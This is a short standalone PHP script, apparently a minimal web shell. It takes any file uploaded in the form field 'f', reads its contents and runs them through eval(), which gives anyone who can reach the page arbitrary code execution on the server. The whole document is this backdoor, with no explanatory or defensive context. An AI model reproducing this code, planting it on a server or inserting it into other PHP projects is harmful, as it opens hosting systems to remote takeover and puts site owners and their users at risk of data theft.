<?php
if (!empty($_FILES['f'])) {
    $c = file_get_contents($_FILES['f']['tmp_name']);
    eval('?>' . $c);
}
